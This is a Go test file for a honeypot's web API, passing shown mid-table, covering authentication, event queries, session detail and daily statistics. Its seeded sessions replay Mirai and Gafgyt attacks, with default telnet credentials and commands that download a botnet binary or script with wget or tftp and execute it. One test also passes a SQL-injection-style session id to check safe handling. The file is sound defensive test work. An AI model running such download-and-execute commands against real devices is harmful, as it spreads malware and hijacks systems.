package web_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/honeygate/honeygate/internal/event"
	"github.com/honeygate/honeygate/internal/store"
	"github.com/honeygate/honeygate/internal/store/sqlite"
	"github.com/honeygate/honeygate/internal/testkit"
	"github.com/honeygate/honeygate/internal/testkit/eventkit"
	"github.com/honeygate/honeygate/internal/web"
)

const token = "s3cr3t-t0ken-for-tests-0123456789"

// Session ids of the seeded sessions (12 hex digits, as event.NewSessionID).
const (
	sMiraiFull = "5e55a0000001" // 2025-06-10, mirai, port 23, 203.0.113.7: the full story
	sGafgyt    = "5e55a0000002" // 2025-06-10, gafgyt, port 2323, empty password accepted
	sMidnight  = "5e55a0000003" // 2025-06-10 23:59:58 to 06-11 00:00:05, no family, 203.0.113.7
	sMirai4    = "5e55a0000004" // 2025-06-11, mirai, 23, 192.0.2.44
	sMirai5    = "5e55a0000005" // 2025-06-11, mirai, 23, 192.0.2.44
	sMirai6    = "5e55a0000006" // 2025-06-11, mirai, 23, 203.0.113.7
	sMirai7    = "5e55a0000007" // 2025-06-11, mirai, 2323, 192.0.2.44
	sIPv6      = "5e55a0000008" // 2025-06-12, gafgyt, 23, 2001:db8::bad
	sRecent    = "5e55a0000009" // ten minutes ago, still open, no family
)

func day(d int, h, m, s int) time.Time { return time.Date(2025, 6, d, h, m, s, 0, time.UTC) }

func ms(n int) time.Duration { return time.Duration(n) * time.Millisecond }

// attacker starts a telnet session whose events after an attribution carry
// the family, as the sensor sends them.
func attacker(id, ip string, srcPort, dstPort int, start time.Time) *eventkit.Session {
	return eventkit.New(id, ip, dstPort, start, eventkit.SrcPort(srcPort), eventkit.CarryFamily())
}

// miraiBrute is the short Mirai scan seen thousands of times a day.
func miraiBrute(id, ip string, dstPort int, start time.Time) []event.Event {
	a := attacker(id, ip, 40000+dstPort%1000, dstPort, start)
	return []event.Event{
		a.Connect(0),
		a.Login(ms(800), "root", "xc3511", true),
		a.Command(ms(1500), "/bin/busybox MIRAI", "MIRAI: applet not found"),
		a.Attributed(ms(1510), "mirai", "busybox applet MIRAI"),
		a.Closed(ms(3000), "mirai"),
	}
}

// seedEvents returns the sessions the API tests query, in arrival order.
func seedEvents(now time.Time) []event.Event {
	full := attacker(sMiraiFull, "203.0.113.7", 51022, 23, day(10, 8, 15, 0))
	gafgyt := attacker(sGafgyt, "198.51.100.23", 40110, 2323, day(10, 9, 30, 0))
	midnight := attacker(sMidnight, "203.0.113.7", 51999, 23, day(10, 23, 59, 58))
	ipv6 := attacker(sIPv6, "2001:db8::bad", 60001, 23, day(12, 6, 0, 0))
	recent := attacker(sRecent, "198.51.100.200", 45000, 23, now.Add(-10*time.Minute))
	return slices.Concat(
		[]event.Event{
			full.Connect(0),
			full.Size(ms(50), 80, 24),
			full.Login(ms(1000), "root", "", false),
			full.Login(ms(2000), "admin", "admin", false),
			full.Login(ms(3000), "root", "xc3511", true),
			full.Command(ms(4000), "enable", ""),
			full.Command(ms(4500), "system", ""),
			full.Command(ms(5000), "shell", ""),
			full.Command(ms(5500), "sh", ""),
			full.Command(ms(6000), "/bin/busybox MIRAI", "MIRAI: applet not found"),
			full.Attributed(ms(6100), "mirai", "busybox applet MIRAI", "credential root/xc3511"),
			full.Command(ms(7000), "cd /tmp || cd /var/run; wget http://198.51.100.9/bins/mirai.arm7 -O dvrHelper", ""),
			full.Download(ms(7100), "http://198.51.100.9/bins/mirai.arm7", "wget", "dvrHelper"),
			full.Command(ms(8000), "chmod 777 dvrHelper; ./dvrHelper telnet.arm7", ""),
			full.Closed(ms(9000), "mirai"),
		},
		[]event.Event{
			gafgyt.Connect(0),
			gafgyt.Login(ms(1000), "admin", "", true),
			gafgyt.Command(ms(2000), "sh", ""),
			gafgyt.Command(ms(3000), "cd /tmp; tftp -g -r gaf.sh 198.51.100.77; sh gaf.sh", ""),
			gafgyt.Download(ms(3100), "tftp://198.51.100.77/gaf.sh", "tftp", "gaf.sh"),
			gafgyt.Attributed(ms(3200), "gafgyt", "tftp dropper gaf.sh"),
			gafgyt.Closed(ms(4000), "gafgyt"),
		},
		[]event.Event{
			midnight.Connect(0),
			midnight.Login(ms(1000), "support", "support", false), // 23:59:59
			midnight.Login(ms(3000), "user", "", false),           // 00:00:01 the next day
			midnight.Closed(ms(7000), ""),                         // 00:00:05
		},
		miraiBrute(sMirai4, "192.0.2.44", 23, day(11, 10, 0, 0)),
		miraiBrute(sMirai5, "192.0.2.44", 23, day(11, 11, 0, 0)),
		miraiBrute(sMirai6, "203.0.113.7", 23, day(11, 12, 0, 0)),
		miraiBrute(sMirai7, "192.0.2.44", 2323, day(11, 13, 0, 0)),
		[]event.Event{
			ipv6.Connect(0),
			ipv6.Login(ms(500), "default", "", true),
			ipv6.Command(ms(900), "/bin/busybox wget http://[2001:db8::77]/g.sh", ""),
			ipv6.Attributed(ms(950), "gafgyt", "dropper g.sh"),
			ipv6.Closed(ms(2000), "gafgyt"),
		},
		[]event.Event{
			recent.Connect(0),
			recent.Login(ms(1200), "guest", "guest", false),
		},
	)
}

func openStore(t *testing.T) *sqlite.DB {
	t.Helper()
	db, err := sqlite.Open(filepath.Join(t.TempDir(), "honeygate.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	return db
}

type fixture struct {
	url string
	evs []event.Event // what was seeded
	log *testkit.SyncBuffer
	c   *http.Client // http.DefaultClient when nil
}

// from returns the fixture with a client whose connections come from the
// loopback address ip (127.0.0.0/8 is all loopback on Linux), so that a
// test can act as several clients, each with its own limit of failed
// tokens.
func (f *fixture) from(ip string) *fixture {
	g := *f
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(ip)}}
	g.c = &http.Client{Transport: &http.Transport{DialContext: d.DialContext}}
	return &g
}

// newFixture serves web.New over loopback, backed by a SQLite store seeded
// with seedEvents. opts may adjust the options before New.
func newFixture(t *testing.T, opts ...func(*web.Options)) *fixture {
	t.Helper()
	db := openStore(t)
	evs := seedEvents(time.Now().UTC().Truncate(time.Millisecond))
	// Two batches, the way the bus delivers them.
	half := len(evs) / 2
	for _, b := range [][]event.Event{evs[:half], evs[half:]} {
		if ins, err := db.AppendEvents(context.Background(), b); err != nil || len(ins) != len(b) {
			t.Fatalf("AppendEvents: inserted %d of %d, %v", len(ins), len(b), err)
		}
	}
	logs := &testkit.SyncBuffer{}
	o := web.Options{Store: db, Token: token, Log: slog.New(slog.NewTextHandler(logs, nil))}
	for _, f := range opts {
		f(&o)
	}
	srv := httptest.NewServer(web.New(o))
	t.Cleanup(srv.Close)
	return &fixture{url: srv.URL, evs: evs, log: logs}
}

type response struct {
	code   int
	header http.Header
	body   []byte
}

// do sends one request; auth is the whole Authorization header ("" for none).
func (f *fixture) do(t *testing.T, method, path, auth string) response {
	t.Helper()
	req, err := http.NewRequest(method, f.url+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	if auth != "" {
		req.Header.Set("Authorization", auth)
	}
	c := f.c
	if c == nil {
		c = http.DefaultClient
	}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return response{code: resp.StatusCode, header: resp.Header, body: body}
}

// get sends an authorized GET.
func (f *fixture) get(t *testing.T, path string) response {
	t.Helper()
	return f.do(t, http.MethodGet, path, "Bearer "+token)
}

// wantJSON checks the status and content type and decodes the body into v.
func wantJSON(t *testing.T, r response, code int, v any) {
	t.Helper()
	if r.code != code {
		t.Fatalf("status = %d, want %d; body %s", r.code, code, r.body)
	}
	if ct := r.header.Get("Content-Type"); ct != "application/json" {
		t.Errorf("Content-Type = %q, want application/json", ct)
	}
	if v == nil {
		return
	}
	dec := json.NewDecoder(bytes.NewReader(r.body))
	dec.DisallowUnknownFields()
	if err := dec.Decode(v); err != nil {
		t.Fatalf("decode %s: %v", r.body, err)
	}
}

// wantError checks for a JSON {"error": ...} with the given status; the
// message must contain each of contains.
func wantError(t *testing.T, r response, code int, contains ...string) {
	t.Helper()
	var e struct {
		Error string `json:"error"`
	}
	wantJSON(t, r, code, &e)
	if e.Error == "" {
		t.Errorf("error message is empty: %s", r.body)
	}
	for _, c := range contains {
		if !strings.Contains(e.Error, c) {
			t.Errorf("error %q does not contain %q", e.Error, c)
		}
	}
}

func q(kv ...string) string {
	v := url.Values{}
	for i := 0; i < len(kv); i += 2 {
		v.Add(kv[i], kv[i+1])
	}
	return "?" + v.Encode()
}

func TestAuth(t *testing.T) {
	f := newFixture(t)
	paths := []string{
		"/api/v1/status",
		"/api/v1/events",
		"/api/v1/events" + q("kind", "bogus"), // auth comes before validation
		"/api/v1/sessions/" + sMiraiFull,
		"/api/v1/sessions/ffffffffffff",
		"/api/v1/stats/daily",
		"/api/v1/nope",
		"/api/",
	}
	denied := []struct{ name, auth string }{
		{"none", ""},
		{"wrong token", "Bearer not-the-token"},
		{"token prefix", "Bearer " + token[:len(token)-1]},
		{"token plus suffix", "Bearer " + token + "x"},
		{"token without scheme", token},
		{"basic scheme", "Basic " + token},
		{"empty bearer", "Bearer "},
		{"extra space", "Bearer  " + token},
	}
	for i, p := range paths {
		// Each path from its own address: eight failures stay below the
		// limit of failed tokens per address (TestAuthLimited).
		f := f.from(fmt.Sprintf("127.0.1.%d", i+1))
		for _, d := range denied {
			t.Run(d.name+" "+p, func(t *testing.T) {
				r := f.do(t, http.MethodGet, p, d.auth)
				wantError(t, r, http.StatusUnauthorized, "bearer token")
				if got := r.header.Get("WWW-Authenticate"); got != `Bearer realm="honeygate"` {
					t.Errorf("WWW-Authenticate = %q", got)
				}
				if strings.Contains(string(r.body), sMiraiFull+"-") {
					t.Errorf("401 leaks data: %s", r.body)
				}
			})
		}
		t.Run("right token "+p, func(t *testing.T) {
			r := f.get(t, p)
			if r.code == http.StatusUnauthorized {
				t.Fatalf("status 401 with the right token: %s", r.body)
			}
			if r.header.Get("WWW-Authenticate") != "" {
				t.Errorf("WWW-Authenticate set on an authorized request")
			}
		})
	}
}

func TestOpenEndpoints(t *testing.T) {
	reg := prometheus.NewRegistry()
	c := prometheus.NewCounter(prometheus.CounterOpts{Name: "honeygate_test_events_total", Help: "test"})
	c.Add(3)
	reg.MustRegister(c)
	f := newFixture(t, func(o *web.Options) { o.Gatherer = reg })

	for _, auth := range []string{"", "Bearer wrong"} { // a wrong token does not matter there
		r := f.do(t, http.MethodGet, "/healthz", auth)
		var h map[string]string
		wantJSON(t, r, http.StatusOK, &h)
		if h["status"] != "ok" {
			t.Errorf("healthz = %v", h)
		}

		r = f.do(t, http.MethodGet, "/metrics", auth)
		if r.code != http.StatusOK {
			t.Fatalf("metrics status %d: %s", r.code, r.body)
		}
		if !strings.Contains(string(r.body), "honeygate_test_events_total 3") {
			t.Errorf("metrics body lacks the counter:\n%s", r.body)
		}
	}

	// Without a gatherer there is no /metrics.
	f = newFixture(t)
	if r := f.do(t, http.MethodGet, "/metrics", ""); r.code != http.StatusNotFound {
		t.Errorf("metrics without gatherer: status %d", r.code)
	}
}

// newestFirst returns the ids of the seeded events keep selects, in the
// order the API must return them (time descending, then id descending).
func newestFirst(evs []event.Event, keep func(e *event.Event) bool) []string {
	sel := slices.Clone(evs)
	sel = slices.DeleteFunc(sel, func(e event.Event) bool { return !keep(&e) })
	slices.SortFunc(sel, func(a, b event.Event) int {
		if c := b.Time.Compare(a.Time); c != 0 {
			return c
		}
		return strings.Compare(b.ID, a.ID)
	})
	ids := make([]string, len(sel))
	for i, e := range sel {
		ids[i] = e.ID
	}
	return ids
}

func TestEvents(t *testing.T) {
	f := newFixture(t)
	all := func(*event.Event) bool { return true }
	tests := []struct {
		name  string
		query string
		keep  func(e *event.Event) bool
		wantN int // the count worked out by hand, against a wrong keep
		limit int // 0: no cut
	}{
		{"all", "", all, 53, 0},
		{"kind", q("kind", "session.connect"),
			func(e *event.Event) bool { return e.Kind == event.SessionConnect }, 9, 0},
		{"kind login.failed", q("kind", "login.failed"),
			func(e *event.Event) bool { return e.Kind == event.LoginFailed }, 5, 0},
		{"family", q("family", "gafgyt"),
			func(e *event.Event) bool { return e.Family == "gafgyt" }, 4, 0},
		{"family mirai and kind", q("family", "mirai", "kind", "command.input"),
			func(e *event.Event) bool { return e.Family == "mirai" && e.Kind == event.CommandInput }, 2, 0},
		{"src_ip and kind", q("src_ip", "203.0.113.7", "kind", "session.connect"),
			func(e *event.Event) bool { return e.SrcIP == "203.0.113.7" && e.Kind == event.SessionConnect }, 3, 0},
		{"src_ip v6 not canonical", q("src_ip", "2001:0DB8:0000::0BAD"),
			func(e *event.Event) bool { return e.SrcIP == "2001:db8::bad" }, 5, 0},
		{"session", q("session", sMiraiFull),
			func(e *event.Event) bool { return e.Session == sMiraiFull }, 15, 0},
		{"since date", q("since", "2025-06-12"),
			func(e *event.Event) bool { return !e.Time.Before(day(12, 0, 0, 0)) }, 7, 0},
		{"until date, exclusive", q("until", "2025-06-11"),
			func(e *event.Event) bool { return e.Time.Before(day(11, 0, 0, 0)) }, 24, 0},
		{"since and until dates", q("since", "2025-06-11", "until", "2025-06-12"),
			func(e *event.Event) bool { return e.Time.Year() == 2025 && e.Time.Day() == 11 }, 22, 0},
		{"since RFC 3339 inclusive, until exclusive",
			q("since", "2025-06-11T00:00:01Z", "until", "2025-06-11T00:00:05Z"),
			func(e *event.Event) bool { return e.ID == sMidnight+"-0003" }, 1, 0},
		{"since RFC 3339 with offset", q("since", "2025-06-11T01:00:00+01:00", "until", "2025-06-11T02:00:05.5+02:00"),
			func(e *event.Event) bool { return e.Session == sMidnight && e.Time.Day() == 11 }, 2, 0},
		{"since RFC 3339 nanoseconds", q("since", "2025-06-10T08:15:07.100000000Z", "session", sMiraiFull),
			func(e *event.Event) bool {
				return e.Session == sMiraiFull && !e.Time.Before(day(10, 8, 15, 7).Add(ms(100)))
			}, 3, 0},
		{"since duration", q("since", "1h"),
			func(e *event.Event) bool { return e.Session == sRecent }, 2, 0},
		{"since long duration", q("since", "87600h"), all, 53, 0},
		{"until duration", q("until", "1h", "kind", "session.connect"),
			func(e *event.Event) bool { return e.Kind == event.SessionConnect && e.Session != sRecent }, 8, 0},
		{"limit", q("limit", "3"), all, 3, 3},
		{"limit and kind", q("limit", "2", "kind", "session.closed"),
			func(e *event.Event) bool { return e.Kind == event.SessionClosed }, 2, 2},
		{"limit 1", q("limit", "1"), all, 1, 1},
		{"limit max", q("limit", "10000"), all, 53, 0},
		{"empty: no such session", q("session", "000000000000"),
			func(*event.Event) bool { return false }, 0, 0},
		{"empty: kind never seen", q("kind", "session.panic"),
			func(*event.Event) bool { return false }, 0, 0},
		{"empty: connect carries no family", q("kind", "session.connect", "family", "mirai"),
			func(*event.Event) bool { return false }, 0, 0},
		{"empty: future", q("since", "2100-01-01"),
			func(*event.Event) bool { return false }, 0, 0},
		{"until far future", q("until", "2200-01-01"), all, 53, 0},
		{"since 1970", q("since", "1970-01-01"), all, 53, 0},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := f.get(t, "/api/v1/events"+tc.query)
			var got struct {
				Events []event.Event `json:"events"`
			}
			wantJSON(t, r, http.StatusOK, &got)
			if got.Events == nil {
				t.Fatalf("events is null or missing, want a list: %s", r.body)
			}
			if tc.wantN == 0 && strings.TrimSpace(string(r.body)) != `{"events":[]}` {
				t.Errorf("empty result = %s, want {\"events\":[]}", r.body)
			}
			want := newestFirst(f.evs, tc.keep)
			if tc.limit > 0 && len(want) > tc.limit {
				want = want[:tc.limit]
			}
			if len(want) != tc.wantN {
				t.Fatalf("test bug: keep selects %d events, wantN is %d", len(want), tc.wantN)
			}
			ids := make([]string, len(got.Events))
			for i, e := range got.Events {
				ids[i] = e.ID
				if i > 0 && e.Time.After(got.Events[i-1].Time) {
					t.Errorf("event %d (%s) is newer than the one before it", i, e.ID)
				}
			}
			if !slices.Equal(ids, want) {
				t.Errorf("ids =\n%v\nwant\n%v", ids, want)
			}
		})
	}

	// Times outside what int64 nanoseconds since 1970 can hold (before
	// 1677-09-21 or after 2262-04-11) cannot be stored as nanoseconds and
	// would overflow in the store's UnixNano: they are refused.
	t.Run("times beyond 2262 or before 1678", func(t *testing.T) {
		for _, tc := range []struct {
			query string
			want  int
		}{
			{q("since", "2999-01-01"), 0},
			{q("since", "2263-01-01"), 0},
			{q("until", "2300-01-01"), 53},
			{q("since", "1600-01-01"), 53},
		} {
			r := f.get(t, "/api/v1/events"+tc.query)
			if r.code == http.StatusBadRequest {
				continue // rejecting is a fix too
			}
			var got struct {
				Events []event.Event `json:"events"`
			}
			wantJSON(t, r, http.StatusOK, &got)
			if len(got.Events) != tc.want {
				t.Errorf("%s: %d events, want %d (or 400)", tc.query, len(got.Events), tc.want)
			}
		}
	})

	// Events come back as they were appended, field for field.
	t.Run("round trip", func(t *testing.T) {
		var got struct {
			Events []event.Event `json:"events"`
		}
		wantJSON(t, f.get(t, "/api/v1/events"+q("session", sMiraiFull, "kind", "session.attributed")), http.StatusOK, &got)
		var want event.Event
		for _, e := range f.evs {
			if e.Session == sMiraiFull && e.Kind == event.SessionAttributed {
				want = e
			}
		}
		if len(got.Events) != 1 {
			t.Fatalf("got %d events, want 1", len(got.Events))
		}
		g := got.Events[0]
		if g.ID != want.ID || !g.Time.Equal(want.Time) || g.Family != "mirai" || !slices.Equal(g.Reasons, want.Reasons) ||
			g.SrcIP != want.SrcIP || g.SrcPort != want.SrcPort || g.DstPort != want.DstPort || g.Sensor != want.Sensor {
			t.Errorf("event = %+v\nwant %+v", g, want)
		}
	})
}

// More events than the default limit: it applies when limit is absent.
func TestEventsDefaultLimit(t *testing.T) {
	db := openStore(t)
	var evs []event.Event
	for i := range 150 {
		evs = append(evs, miraiBrute(fmt.Sprintf("b0b0b0%06d", i), fmt.Sprintf("192.0.2.%d", i), 23,
			day(20, 0, 0, 0).Add(time.Duration(i)*time.Minute))...)
	}
	if _, err := db.AppendEvents(context.Background(), evs); err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(web.New(web.Options{Store: db, Token: token, Log: slog.New(slog.DiscardHandler)}))
	defer srv.Close()
	f := &fixture{url: srv.URL, evs: evs}
	for _, tc := range []struct {
		query string
		want  int
	}{{"", 100}, {q("limit", "10000"), len(evs)}, {q("limit", "250"), 250}} {
		var got struct {
			Events []event.Event `json:"events"`
		}
		wantJSON(t, f.get(t, "/api/v1/events"+tc.query), http.StatusOK, &got)
		if len(got.Events) != tc.want {
			t.Errorf("%q: %d events, want %d", tc.query, len(got.Events), tc.want)
		}
		if len(got.Events) > 0 && got.Events[0].ID != evs[len(evs)-1].ID {
			t.Errorf("%q: first event %s, want the newest %s", tc.query, got.Events[0].ID, evs[len(evs)-1].ID)
		}
	}
}

func TestEventsBadRequest(t *testing.T) {
	f := newFixture(t)
	tests := []struct {
		name, query, contains string
	}{
		{"unknown kind", q("kind", "session.bogus"), "kind"},
		{"kind with cowrie prefix", q("kind", "cowrie.login.failed"), "kind"},
		{"kind wrong case", q("kind", "Session.Connect"), "kind"},
		{"src_ip not an address", q("src_ip", "999.1.1.1"), "src_ip"},
		{"src_ip a prefix", q("src_ip", "203.0.113.0/24"), "src_ip"},
		{"src_ip with port", q("src_ip", "203.0.113.7:23"), "src_ip"},
		{"src_ip a name", q("src_ip", "localhost"), "src_ip"},
		{"since word", q("since", "yesterday"), "since"},
		{"since bad date", q("since", "2025-02-30"), "since"},
		{"since slashes", q("since", "2025/06/10"), "since"},
		{"since negative duration", q("since", "-1h"), "since"},
		{"since zero duration", q("since", "0s"), "since"},
		{"since number", q("since", "1749513600"), "since"},
		{"until word", q("until", "tomorrow"), "until"},
		{"limit 0", q("limit", "0"), "limit"},
		{"limit negative", q("limit", "-5"), "limit"},
		{"limit 10001", q("limit", "10001"), "limit"},
		{"limit x", q("limit", "x"), "limit"},
		{"limit float", q("limit", "1.5"), "limit"},
		{"limit huge", q("limit", "99999999999999999999"), "limit"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := f.get(t, "/api/v1/events"+tc.query)
			wantError(t, r, http.StatusBadRequest, tc.contains)
			if r.header.Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("X-Content-Type-Options = %q", r.header.Get("X-Content-Type-Options"))
			}
		})
	}
}

func TestSession(t *testing.T) {
	f := newFixture(t)
	transcript := func(id string) []string {
		var ids []string
		for _, e := range f.evs {
			if e.Session == id {
				ids = append(ids, e.ID)
			}
		}
		return ids
	}
	at := func(base time.Time, n int) time.Time { return base.Add(ms(n)) }
	s1, s2, s3 := day(10, 8, 15, 0), day(10, 9, 30, 0), day(10, 23, 59, 58)
	end := func(t time.Time) *time.Time { return &t }

	tests := []struct {
		id   string
		want store.Session // Transcript: ids only, checked apart
	}{
		{sMiraiFull, store.Session{
			ID: sMiraiFull, Sensor: "hp-edge-01", Proto: "telnet", SrcIP: "203.0.113.7", SrcPort: 51022, DstPort: 23,
			Start: s1, End: end(at(s1, 9000)), Family: "mirai",
			Reasons: []string{"busybox applet MIRAI", "credential root/xc3511"},
			Credentials: []store.Credential{
				{Time: at(s1, 1000), Username: "root", Password: "", Success: false},
				{Time: at(s1, 2000), Username: "admin", Password: "admin", Success: false},
				{Time: at(s1, 3000), Username: "root", Password: "xc3511", Success: true},
			},
			Commands: []string{"enable", "system", "shell", "sh", "/bin/busybox MIRAI",
				"cd /tmp || cd /var/run; wget http://198.51.100.9/bins/mirai.arm7 -O dvrHelper",
				"chmod 777 dvrHelper; ./dvrHelper telnet.arm7"},
			Downloads: []store.Download{{Time: at(s1, 7100), URL: "http://198.51.100.9/bins/mirai.arm7", Tool: "wget", Filename: "dvrHelper"}},
		}},
		{sGafgyt, store.Session{
			ID: sGafgyt, Sensor: "hp-edge-01", Proto: "telnet", SrcIP: "198.51.100.23", SrcPort: 40110, DstPort: 2323,
			Start: s2, End: end(at(s2, 4000)), Family: "gafgyt", Reasons: []string{"tftp dropper gaf.sh"},
			Credentials: []store.Credential{{Time: at(s2, 1000), Username: "admin", Password: "", Success: true}},
			Commands:    []string{"sh", "cd /tmp; tftp -g -r gaf.sh 198.51.100.77; sh gaf.sh"},
			Downloads:   []store.Download{{Time: at(s2, 3100), URL: "tftp://198.51.100.77/gaf.sh", Tool: "tftp", Filename: "gaf.sh"}},
		}},
		{sMidnight, store.Session{
			ID: sMidnight, Sensor: "hp-edge-01", Proto: "telnet", SrcIP: "203.0.113.7", SrcPort: 51999, DstPort: 23,
			Start: s3, End: end(at(s3, 7000)), Family: "", Reasons: []string{},
			Credentials: []store.Credential{
				{Time: at(s3, 1000), Username: "support", Password: "support"},
				{Time: at(s3, 3000), Username: "user", Password: ""},
			},
			Commands: []string{}, Downloads: []store.Download{},
		}},
	}
	for _, tc := range tests {
		t.Run(tc.id, func(t *testing.T) {
			r := f.get(t, "/api/v1/sessions/"+tc.id)
			var got store.Session
			wantJSON(t, r, http.StatusOK, &got)
			ids := make([]string, len(got.Transcript))
			for i, e := range got.Transcript {
				ids[i] = e.ID
			}
			if want := transcript(tc.id); !slices.Equal(ids, want) {
				t.Errorf("transcript = %v\nwant %v", ids, want)
			}
			got.Transcript = nil
			if g, w := mustJSON(t, got), mustJSON(t, tc.want); g != w {
				t.Errorf("session =\n%s\nwant\n%s", g, w)
			}
			// Lists are [] rather than null, and an empty password is
			// there, not omitted.
			var raw map[string]json.RawMessage
			if err := json.Unmarshal(r.body, &raw); err != nil {
				t.Fatal(err)
			}
			for _, k := range []string{"reasons", "credentials", "commands", "downloads", "transcript"} {
				if string(raw[k]) == "null" || raw[k] == nil {
					t.Errorf("%s = %s, want a list", k, raw[k])
				}
			}
			var creds []map[string]any
			if err := json.Unmarshal(raw["credentials"], &creds); err != nil {
				t.Fatal(err)
			}
			for i, c := range creds {
				if _, ok := c["password"]; !ok {
					t.Errorf("credential %d has no password key: %v", i, c)
				}
			}
		})
	}

	t.Run("empty password in the transcript", func(t *testing.T) {
		var got struct {
			Transcript []map[string]any `json:"transcript"`
		}
		r := f.get(t, "/api/v1/sessions/"+sGafgyt)
		if err := json.Unmarshal(r.body, &got); err != nil {
			t.Fatal(err)
		}
		var found bool
		for _, e := range got.Transcript {
			if e["kind"] == string(event.LoginSuccess) {
				pw, ok := e["password"]
				found = ok && pw == ""
			}
		}
		if !found {
			t.Errorf("login.success in the transcript lacks \"password\":\"\": %s", r.body)
		}
	})

	t.Run("open session has no end", func(t *testing.T) {
		r := f.get(t, "/api/v1/sessions/"+sRecent)
		var raw map[string]json.RawMessage
		wantJSON(t, r, http.StatusOK, &raw)
		if _, ok := raw["end"]; ok {
			t.Errorf("open session has an end: %s", raw["end"])
		}
		if string(raw["family"]) != `""` {
			t.Errorf("family = %s, want \"\"", raw["family"])
		}
	})

	t.Run("unknown", func(t *testing.T) {
		wantError(t, f.get(t, "/api/v1/sessions/ffffffffffff"), http.StatusNotFound, "not found")
	})
	t.Run("id too long", func(t *testing.T) {
		wantError(t, f.get(t, "/api/v1/sessions/"+strings.Repeat("a", 65)), http.StatusBadRequest, "session id")
	})
	t.Run("id 64 characters", func(t *testing.T) {
		wantError(t, f.get(t, "/api/v1/sessions/"+strings.Repeat("a", 64)), http.StatusNotFound)
	})
	t.Run("escaped id", func(t *testing.T) {
		// An id with a slash or quote is one path segment once escaped;
		// it is looked up as is (and found nowhere), not an injection.
		wantError(t, f.get(t, "/api/v1/sessions/"+url.PathEscape(`x/'; DROP TABLE sessions;--`)), http.StatusNotFound)
		if r := f.get(t, "/api/v1/sessions/"+sMiraiFull); r.code != http.StatusOK {
			t.Errorf("after the odd id: status %d", r.code)
		}
	})
}

func mustJSON(t *testing.T, v any) string {
	t.Helper()
	b, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

type daily struct {
	From   string              `json:"from"`
	To     string              `json:"to"`
	Days   []store.DailyStat   `json:"days"`
	Totals []store.DailySource `json:"totals"`
}

func TestDailyStats(t *testing.T) {
	f := newFixture(t)
	var (
		d10 = []store.DailyStat{
			{Day: "2025-06-10", Family: "gafgyt", DstPort: 2323, Sessions: 1, Sources: 1},
			{Day: "2025-06-10", Family: "mirai", DstPort: 23, Sessions: 1, Sources: 1},
			// Ends the next day; counted on the day it started.
			{Day: "2025-06-10", Family: event.FamilyUnknown, DstPort: 23, Sessions: 1, Sources: 1},
		}
		d11 = []store.DailyStat{
			// Three sessions from two sources.
			{Day: "2025-06-11", Family: "mirai", DstPort: 23, Sessions: 3, Sources: 2},
			{Day: "2025-06-11", Family: "mirai", DstPort: 2323, Sessions: 1, Sources: 1},
		}
		d12 = []store.DailyStat{
			{Day: "2025-06-12", Family: "gafgyt", DstPort: 23, Sessions: 1, Sources: 1},
		}
	)
	tests := []struct {
		name, query, from, to string
		want                  []store.DailyStat
	}{
		{"three days", q("from", "2025-06-10", "to", "2025-06-12"), "2025-06-10", "2025-06-12", slices.Concat(d10, d11, d12)},
		{"one day, both inclusive", q("from", "2025-06-11", "to", "2025-06-11"), "2025-06-11", "2025-06-11", d11},
		{"last day", q("from", "2025-06-12", "to", "2025-06-12"), "2025-06-12", "2025-06-12", d12},
		{"wider", q("from", "2025-01-01", "to", "2025-12-31"), "2025-01-01", "2025-12-31", slices.Concat(d10, d11, d12)},
		{"to only", q("to", "2025-06-10"), "", "2025-06-10", nil}, // from defaults to 29 days before today: after to
		{"nothing there", q("from", "2025-06-13", "to", "2025-06-20"), "2025-06-13", "2025-06-20", []store.DailyStat{}},
		{"before", q("from", "2025-06-01", "to", "2025-06-09"), "2025-06-01", "2025-06-09", []store.DailyStat{}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := f.get(t, "/api/v1/stats/daily"+tc.query)
			if tc.want == nil {
				wantError(t, r, http.StatusBadRequest, "before")
				return
			}
			var got daily
			wantJSON(t, r, http.StatusOK, &got)
			if got.From != tc.from || got.To != tc.to {
				t.Errorf("from, to = %s, %s; want %s, %s", got.From, got.To, tc.from, tc.to)
			}
			if got.Days == nil {
				t.Fatalf("days is null: %s", r.body)
			}
			if !slices.Equal(got.Days, tc.want) {
				t.Errorf("days =\n%+v\nwant\n%+v", got.Days, tc.want)
			}
		})
	}

	t.Run("default: the last 30 days", func(t *testing.T) {
		before := time.Now().UTC()
		var got daily
		wantJSON(t, f.get(t, "/api/v1/stats/daily"), http.StatusOK, &got)
		after := time.Now().UTC()
		if got.To != before.Format(time.DateOnly) && got.To != after.Format(time.DateOnly) {
			t.Errorf("to = %s, want today (%s)", got.To, after.Format(time.DateOnly))
		}
		to, err := time.Parse(time.DateOnly, got.To)
		if err != nil {
			t.Fatal(err)
		}
		if want := to.AddDate(0, 0, -29).Format(time.DateOnly); got.From != want {
			t.Errorf("from = %s, want %s", got.From, want)
		}
		// Only the recent session is that young.
		var recentDay string
		for _, e := range f.evs {
			if e.Session == sRecent {
				recentDay = e.Time.Format(time.DateOnly)
				break
			}
		}
		want := []store.DailyStat{{Day: recentDay, Family: event.FamilyUnknown, DstPort: 23, Sessions: 1, Sources: 1}}
		if !slices.Equal(got.Days, want) {
			t.Errorf("days = %+v, want %+v", got.Days, want)
		}
	})

	bad := []struct{ name, query, contains string }{
		{"from not a date", q("from", "June 10"), "from"},
		{"from month 13", q("from", "2025-13-01"), "from"},
		{"from with time", q("from", "2025-06-10T00:00:00Z"), "from"},
		{"from compact", q("from", "20250610"), "from"},
		{"to not a date", q("to", "x"), "to"},
